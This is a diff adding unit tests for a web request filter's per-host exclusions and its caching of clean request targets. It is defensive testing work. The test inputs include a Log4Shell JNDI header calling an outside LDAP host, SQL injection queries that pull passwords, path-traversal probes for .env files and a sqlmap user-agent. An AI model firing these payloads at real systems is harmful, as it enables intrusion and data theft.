@@ -192,6 +192,28 @@ describe('user agents found clean are remembered, and only those', () => {
   });
 });
 
+describe('request targets found clean are remembered, and only those', () => {
+  it('a target excluded on one site is still refused on the others, before and after', () => {
+    const check = compileRequestRules(rules({ exclusions: [{ host: 'dev.example.com', rules: ['dotfile-probe', 'sqli'], source: SOURCE }] }));
+    for (let i = 0; i < 3; i++) {
+      assert.equal(idOf(check, '/.env', { host: 'dev.example.com' }), null, 'excluded there');
+      assert.equal(idOf(check, '/.env'), 'dotfile-probe', `refused elsewhere (round ${i})`);
+      assert.equal(idOf(check, '/?id=1%20union%20select%201,2', { host: 'dev.example.com' }), null, 'excluded there');
+      assert.equal(idOf(check, '/?id=1%20union%20select%201,2'), 'sqli', `refused elsewhere (round ${i})`);
+    }
+  });
+
+  it('a clean target remembered still gets the header and user-agent rules, and another query is checked', () => {
+    const check = compileRequestRules(rules({ custom: [rule('admin-post', { paths: ['/shop/items'], methods: ['DELETE'] })] }));
+    for (let i = 0; i < 3; i++) assert.equal(idOf(check, '/shop/items?id=5'), null);
+    assert.equal(idOf(check, '/shop/items?id=5', { headers: { 'x-api-version': '${jndi:ldap://203.0.113.9/a}' } }), 'log4shell');
+    assert.equal(idOf(check, '/shop/items?id=5', { headers: { 'user-agent': 'sqlmap/1.7' } }), 'scanner-user-agent');
+    assert.equal(idOf(check, '/shop/items?id=5', { method: 'DELETE' }), 'admin-post', 'custom rules run before the remembered part');
+    assert.equal(idOf(check, '/shop/items?id=5%27%20union%20select%20password%20from%20users--'), 'sqli');
+    assert.equal(idOf(check, '/shop/items/../../.env?id=5'), 'dotfile-probe');
+  });
+});
+
 describe('errors', () => {
   it('an exclusion naming an unknown rule fails at its line', () => {
     assert.throws(
